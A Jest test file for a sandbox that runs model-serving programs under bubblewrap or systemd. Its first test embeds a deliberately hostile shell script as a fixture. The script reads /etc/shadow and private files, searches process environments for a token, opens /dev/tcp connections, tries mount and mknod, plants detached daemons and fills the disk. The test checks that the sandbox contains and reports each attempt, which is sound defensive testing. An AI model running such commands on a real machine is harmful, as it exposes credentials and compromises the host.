import { spawn } from 'node:child_process'
import { createServer } from 'node:http'
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { homedir, tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { afterAll, describe, expect, test } from '@jest/globals'
import { askLoopback } from '../../src/adapters/loopback-http.ts'
import { childProcesses } from '../../src/adapters/process.ts'
import { machineSandbox } from '../../src/adapters/machine-sandbox.ts'
import { placesFor } from '../../src/adapters/service-places.ts'
import type { Sandbox, SandboxedProgram } from '../../src/ports/sandbox.ts'
import { runSystemd } from '../support/running-systemd.ts'
import { ROOT } from '../support/source-files.ts'

const directory = mkdtempSync(join(tmpdir(), 'sandbox-test-'))
mkdirSync(join(directory, 'store'))
writeFileSync(join(directory, 'model.gguf'), 'GGUF')
writeFileSync(join(directory, 'private'), 'a secret of this user')
// nobody but this user may go through its home
const atHome = mkdtempSync(join(homedir(), '.llama-fleet-sandbox-'))
writeFileSync(join(atHome, 'driver'), ' and its driver')
const systemd = runSystemd(mkdtempSync(join(tmpdir(), 'sandbox-systemd-')))
afterAll(() => {
  systemd.end()
  for (const made of [directory, atHome]) rmSync(made, { recursive: true, force: true })
})

/** A store path whose program is this script. */
function storePathOf(script: string, interpreter = '/bin/bash'): string {
  const storePath = mkdtempSync(join(directory, 'store', 'side-'))
  // everybody may read what lies in a store
  chmodSync(storePath, 0o755)
  mkdirSync(join(storePath, 'bin'))
  writeFileSync(join(storePath, 'bin', 'program'), `#!${interpreter}\n${script}\n`)
  chmodSync(join(storePath, 'bin', 'program'), 0o755)
  return storePath
}

const TOKEN = 'ghp_0123456789abcdefghijABCDEFGHIJ012345'
const sandboxWith = (environment: Record<string, string> = {}) =>
  machineSandbox({
    processes: childProcesses(),
    environment: { PATH: process.env['PATH'] ?? '', GITHUB_TOKEN: TOKEN, NIX_CONFIG: 'x', ...environment },
    scratchDirectory: join(directory, 'scratch'),
  })

const asked = (storePath: string, change: Partial<SandboxedProgram> = {}): SandboxedProgram => ({
  wish: 'auto',
  variant: 'cpu',
  storePath,
  program: 'bin/program',
  arguments: [],
  readable: [join(directory, 'model.gguf')],
  timeoutSeconds: 20,
  ...change,
})

/** Programs that still have this word among their arguments, wherever they moved. */
const running = (word: string): string[] =>
  readdirSync('/proc').filter((name) => /^\d+$/.test(name) && commandLine(name).includes(word))

function commandLine(id: string): string {
  try {
    return readFileSync(`/proc/${id}/cmdline`, 'latin1')
  } catch {
    return ''
  }
}

/** Where bubblewrap works, it is what is used; systemd's services are used as root where it does not. */
const KINDS = [
  { kind: 'bubblewrap', environment: {}, reason: /bwrap works here; .*(?:bounds|no control group)/, devices: 'core fd full null ptmx pts random shm stderr stdin stdout tty urandom zero', seen: ['model.gguf', 'store'] },
  {
    kind: 'systemd',
    environment: { PATH: systemd.path, LLAMA_FLEET_BWRAP: '/nonexistent/bwrap' },
    reason: /^hardened services of \/\S+\/systemd-run work here; (?:their control group bounds memory to .* and processes to 4096|nothing bounds memory)$/,
    devices: 'char fd full hugepages log mqueue null ptmx pts random shm stderr stdin stdout tty urandom zero',
    seen: ['model.gguf', 'store'],
  },
] as const
if (!systemd.hasBus) console.warn('There is no systemd with D-Bus here that could be started in namespaces: its services were not tried as a sandbox.')

describe.each(KINDS.filter(({ kind }) => kind === 'bubblewrap' || systemd.hasBus))('In the sandbox of $kind', ({ kind, environment, reason, devices, seen }) => {
  test('a hostile program gets nothing, leaves nothing, and what it tried is told', async () => {
    const word = `daemon-${process.pid}-${Date.now()}`
    const sandbox = sandboxWith(environment)
    const storePath = storePathOf(`
      echo "environment: $(env | cut -d= -f1 | sort | tr '\\n' ' ')"
      cat /proc/*/environ 2>/dev/null | grep -ac ${TOKEN}
      cat ${directory}/private /root/.bashrc /etc/passwd /etc/shadow /var/log/* 2>/dev/null; ls /home /root ${directory} 2>/dev/null
      echo x > /dev/tcp/192.0.2.1/80; echo x > /dev/udp/192.0.2.1/53
      echo hello > ~/note; echo x > "$0"; echo x > ${directory}/model.gguf; echo x > /usr/x; echo x > /x; echo x > ${directory}/x; echo x > /var/tmp/x
      echo 1 > /proc/sysrq-trigger; mount -t tmpfs none /tmp; unshare -r true; mknod ~/disk b 254 0; mknod /dev/shm/disk b 254 0
      for process in /proc/[0-9]*; do grep -aq ${directory} $process/cmdline || echo "sees $process"; done
      find /proc -path '/proc/[0-9]*' -prune -o -path /proc/pressure -prune -o -type f -writable -print
      (setsid bash -c 'trap "" TERM HUP; exec -a ${word} sleep 600' & ) &
      (exec -a ${word} setsid sleep 600) &
      sleep 0.2
      ls /dev | tr '\\n' ' '
      dd if=/dev/zero of=$HOME/big bs=1M count=4000; dd if=/dev/zero of=/dev/shm/big bs=1M count=4000
      cat ${directory}/model.gguf
      exit 7`)
    expect(await sandbox.state('required')).toEqual({ kind, reason: expect.stringMatching(reason) })
    const ending = await sandbox.run(asked(storePath))
    expect(ending).toMatchObject({ exitCode: 7, signal: null, timedOut: false, startError: null })
    expect(ending.stdout.trim().split('\n')).toEqual([
      'environment: HOME LANG PATH PWD SHLVL TMPDIR _ ',
      '0',
      // the names that lead to what may be read, and nothing beside them
      `${directory}:`,
      ...seen,
      `${devices} GGUF`,
    ])
    expect(running(word)).toEqual([])
    expect(readdirSync(directory).filter((name) => name !== 'scratch').toSorted()).toEqual(['model.gguf', 'private', 'store'])
    expect(readFileSync(join(directory, 'model.gguf'), 'utf8')).toBe('GGUF')
    expect(existsSync(join(directory, 'scratch')) ? readdirSync(join(directory, 'scratch')) : []).toEqual([])
    expect(ending.stderrTail).not.toContain('llama-fleet-')
    expect(await sandbox.traces(storePath)).toEqual([
      'tried 2 times to reach the network, in vain',
      expect.stringMatching(/^left 2 processes \(sleep, sleep\) running; ended$/),
      'filled the 256 MiB that it may write',
      'wrote 2 files (/tmp/home/big, /tmp/home/note) beside its output; removed',
    ])
  })

  test('a program that behaves leaves no trace, and its signals and its absence arrive as they are', async () => {
    const sandbox = sandboxWith({ ...environment, LLAMA_FLEET_SANDBOX_READABLE: `${directory}/private:${atHome}/driver` })
    const out = join(directory, `out of ${kind}`)
    const odd = join(directory, `100 %n ü'"\\ $HOME \${x};, a`)
    writeFileSync(odd, 'odd')
    const good = storePathOf(`mkdir -p ~/.cache; echo x > ~/.cache/shader; cat ${directory}/private ${atHome}/driver; cat "$2"; printf '%s|' "$@" >&2; echo "$HOME $PWD" >&2; echo y > '${out}'`)
    writeFileSync(out, '')
    const said: string[] = []
    const words = ['a b', odd, '$HOME', '${HOME}', '$$', '%n', '', '"', '\\']
    const ending = await sandbox.run(asked(good, { arguments: words, readable: [odd], writable: [out], onStderrLine: (line) => said.push(line) }))
    const shown = `${words.join('|')}|/tmp/home /tmp/home`
    expect(ending).toMatchObject({ exitCode: 0, stdout: 'a secret of this user and its driverodd', stderrTail: `${shown}\n` })
    expect(said).toEqual([shown])
    expect(readFileSync(out, 'utf8')).toBe('y\n')
    for (const path of [out, odd]) rmSync(path)
    expect(await sandbox.traces(good)).toEqual([])
    expect(await sandbox.run(asked(storePathOf('kill -SEGV $$')))).toMatchObject({ exitCode: 139, stderrTail: '' })
    expect((await sandbox.run(asked('/nonexistent'))).startError).toContain('is not installed')
    expect((await sandbox.run(asked(storePathOf('', '/no/loader')))).startError).toContain('is not installed, or its loader')
    // what a loader says, which is there
    const lacking = 'error while loading shared libraries: libx.so: cannot open shared object file: No such file or directory'
    expect(await sandbox.run(asked(storePathOf(`echo "$0: ${lacking}" >&2; exit 127`)))).toMatchObject({ startError: null, exitCode: 127, stderrTail: expect.stringContaining(lacking) })
    const secret = join(directory, `secret of ${kind}`)
    writeFileSync(secret, 'secret', { mode: 0o600 })
    const kept = await sandbox.run(asked(good, { readable: [secret], arguments: ['', secret], writable: [] }))
    rmSync(secret)
    // a service has a user of its own, and what only ours may read stays closed to it
    if (kind === 'systemd') expect(kept.startError).toMatch(/cannot start: \S+\/secret of systemd may not be read by everybody, .* run `chmod o\+rX` on it, or install bubblewrap\.$/)
    else expect(kept.stdout).toContain('secret')
    const word = `hanging-${kind}-${process.pid}`
    const hanging = await sandbox.run(asked(storePathOf(`trap "" TERM; while :; do (exec -a ${word} sleep 1); done`), { timeoutSeconds: 1 }))
    expect(hanging).toMatchObject({ timedOut: true, startError: null })
    expect(running(word)).toEqual([])
  })

  test('nothing goes on when we are killed', async () => {
    const word = `orphan-${kind}-${process.pid}-${Date.now()}`
    const storePath = storePathOf(`trap "" TERM HUP; (setsid bash -c 'trap "" TERM HUP; exec -a ${word} sleep 600' &); exec -a ${word} sleep 600`)
    const us = spawn(process.execPath, ['--import', 'tsx', join(ROOT, '__tests__/support/sandboxed-child.ts'), storePath, join(directory, 'scratch-of-killed')], {
      cwd: ROOT,
      env: { PATH: process.env['PATH'] ?? '', HOME: homedir(), ...environment },
      stdio: 'ignore',
    })
    const until = async (count: number): Promise<number> => {
      for (let tries = 0; tries < 300 && running(word).length !== count; tries++) await new Promise((resolve) => setTimeout(resolve, 100))
      return running(word).length
    }
    expect(await until(2)).toBe(2)
    us.kill('SIGKILL')
    expect(await until(0)).toBe(0)
  })

  test('what a program inside uses of the CPU counts as ours, not as somebody else’s', async () => {
    const ticks = (): number => Number(/\) (?:\S+ ){13}(\d+)/.exec(readFileSync('/proc/self/stat', 'latin1'))?.[1])
    const sandbox = sandboxWith(environment)
    await sandbox.state('auto')
    const before = ticks()
    const { ticksElsewhere = 0 } = await sandbox.run(asked(storePathOf('end=$((SECONDS + 2)); while [ $SECONDS -lt $end ]; do :; done')))
    // one to two seconds of work, of which a crowded machine leaves us a share
    expect(ticks() - before + ticksElsewhere).toBeGreaterThan(20)
  })

  test('a server inside is reached through its socket, and ends when it is told to', async () => {
    expect(await served(sandboxWith(environment), 'auto')).toEqual(SERVED)
  })

  test.each([
    ['a link in its place', (socket: string) => `ln -s ${socket} server.sock`],
    ['its home a link', (socket: string) => `mkdir /dev/shm/x; mv /tmp/home /tmp/away && ln -s ${dirname(socket)} /tmp/home || ln -s ${socket} server.sock`],
  ])('a server inside that makes %s has us ask no socket of the machine', async (_what, script) => {
    const room = mkdtempSync(join(tmpdir(), 'sandbox-host-'))
    const heard: string[] = []
    const host = createServer((question, answer) => (heard.push(question.url ?? ''), answer.end('the host')))
    await new Promise<void>((done) => host.listen(join(room, 'server.sock'), done))
    const linking = storePathOf(`${script(join(room, 'server.sock'))}; echo listening; sleep 20`)
    const { answers } = await served(sandboxWith(environment), 'auto', linking)
    host.close()
    rmSync(room, { recursive: true, force: true })
    expect([heard, answers]).toEqual([[], [expect.stringMatching(/^it does not answer \/health/)]])
  })
})

const SERVED = { answers: ['alive'], timedOut: false, startError: null, endedByItself: false }

/** What a server in its home answered before it was told to end. */
async function served(sandbox: Sandbox, wish: 'auto' | 'off', program: string | null = null) {
  const server = program ?? storePathOf(`require('node:http').createServer((q, a) => a.end('alive')).listen('server.sock', () => console.log('listening'))`, process.execPath)
  const stop = new AbortController()
  let reach = (name: string): string => name
  const answers: Promise<string>[] = []
  const ending = await sandbox.run(
    asked(server, {
      wish,
      readable: [process.execPath],
      stop: stop.signal,
      onStart: (given) => (reach = given),
      onStdoutLine: () => {
        const question = askLoopback({ socketPath: reach('server.sock'), path: '/health', apiKey: 'x', timeoutSeconds: 10 })
        answers.push(question.then((answer) => (answer.kind === 'answer' ? answer.text : answer.why)).finally(() => stop.abort()))
      },
    }),
  )
  return { answers: await Promise.all(answers), timedOut: ending.timedOut, startError: ending.startError, endedByItself: ending.exitCode === 0 }
}

describe('Without a sandbox', () => {
  const bwrap = (name: string, script: string): string => {
    const path = join(directory, name)
    mkdirSync(dirname(path), { recursive: true })
    writeFileSync(path, `#!/bin/bash\n${script}\n`)
    chmodSync(path, 0o755)
    return path
  }

  test.each([
    ['forbids it', 'echo "bwrap: No permissions to create new namespace" >&2; exit 1', 'does not work here: bwrap: No permissions to create new namespace'],
    ['only seems to have it', 'exit 0', 'does not work here: it ended with 0'],
    ['keeps nothing out of it', 'while [ "$1" != -- ]; do shift; done; shift; HOME=$(mktemp -d) exec "$@"', 'does not work here: '],
  ])('a machine that %s says so, and `required` is refused', async (name, script, reason) => {
    const sandbox = sandboxWith({ LLAMA_FLEET_BWRAP: bwrap(`bwrap-${name.replaceAll(' ', '-')}`, script) })
    expect(await sandbox.state('auto')).toEqual({ kind: 'none', reason: expect.stringContaining(reason) })
    await expect(sandbox.state('required')).rejects.toThrow(/^A sandbox is required, and this machine gives none: /)
  })

  test('one that is required is looked for again by whoever asks again, as somebody may have installed it', async () => {
    const program = bwrap('bwrap-later', 'echo "no namespaces" >&2; exit 1')
    const sandbox = sandboxWith({ LLAMA_FLEET_BWRAP: program })
    await expect(sandbox.state('required')).rejects.toThrow('does not work here: no namespaces')
    bwrap('bwrap-later', 'echo "no loopback" >&2; exit 1')
    await expect(sandbox.state('required')).rejects.toThrow('does not work here: no loopback')
  })

  test('a systemd-run that keeps nothing out of it is found out, and one that cannot make services says so', async () => {
    bwrap('manager/systemctl', 'exit 0')
    const environment = { LLAMA_FLEET_BWRAP: '/nonexistent/bwrap', PATH: `${directory}/manager:/usr/bin:/bin` }
    for (const [script, reason] of [
      ['while [ "$1" != -- ]; do shift; done; shift; for word; do words+=("${word//\\$\\$/\\$}"); done; mkdir -p /tmp/home; exec "${words[@]}"', /does not work here: it (?:has the network interface|sees the process) \w+$/],
      ['echo "Failed to connect to bus: No such file or directory" >&2; exit 1', /does not work here: Failed to connect to bus: No such file or directory$/],
      ['exit 0', /does not work here: it ended with 0$/],
    ] as const) {
      bwrap('manager/systemd-run', script)
      const { kind, reason: said } = await sandboxWith(environment).state('auto')
      expect(kind).toBe('none')
      expect(said).toMatch(process.getuid?.() === 0 ? reason : /; only root gets a hardened service of systemd$/)
    }
  })

  test('a machine without bubblewrap and without systemd says so', async () => {
    const sandbox = sandboxWith({ LLAMA_FLEET_BWRAP: '/nonexistent/bwrap', PATH: '/nonexistent' })
    const service = process.getuid?.() === 0 ? 'there is no systemd-run on PATH' : 'only root gets a hardened service of systemd'
    expect(await sandbox.state('auto')).toEqual({ kind: 'none', reason: `LLAMA_FLEET_BWRAP names /nonexistent/bwrap, where no program is; ${service}` })
    expect(await sandbox.state('off')).toEqual({ kind: 'none', reason: 'switched off in the config' })
  })

  test('a server is reached through its socket, and ends when it is told to', async () => {
    expect(await served(sandboxWith(), 'off')).toEqual(SERVED)
  })

  test('the environment is as short, and what was left is ended, removed and told', async () => {
    const word = `daemon-${process.pid}-${Date.now()}`
    const sandbox = sandboxWith()
    const storePath = storePathOf(`env | cut -d= -f1 | sort | tr '\\n' ' '; echo x > ~/note; (setsid bash -c 'exec -a ${word} sleep 600' >/dev/null 2>&1 &); sleep 0.2`)
    const ending = await sandbox.run(asked(storePath, { wish: 'off' }))
    expect(ending.stdout).toBe('HOME LANG PATH PWD SHLVL TMPDIR _ ')
    expect(await sandbox.traces(storePath)).toEqual(['left a process running; ended', 'wrote a file in its home; removed'])
    await new Promise((resolve) => setTimeout(resolve, 100))
    expect(running(word)).toEqual([])
    expect(existsSync(join(directory, 'scratch')) && readdirSync(join(directory, 'scratch'))).toEqual([])
  })

  test('what was left is ended too when the one who reads its lines throws', async () => {
    const word = `daemon-${process.pid}-${Date.now()}`
    const storePath = storePathOf(`(setsid bash -c 'exec -a ${word} sleep 600' >/dev/null 2>&1 &); sleep 0.2; echo line`)
    const fault = new Error('a fault of ours')
    await expect(sandboxWith().run(asked(storePath, { wish: 'off', onStdoutLine: () => { throw fault } }))).rejects.toBe(fault)
    await new Promise((resolve) => setTimeout(resolve, 100))
    expect(running(word)).toEqual([])
  })
})

test('the places of a service that no disk takes are the machine’s fault', () => {
  const nowhere = join(directory, 'private', 'scratch')
  expect(() => placesFor({ readable: [], writable: [] }, nowhere)).toThrow(`Cannot write in ${nowhere} (ENOTDIR). Make room on the disk, or give a state directory that may be written.`)
})
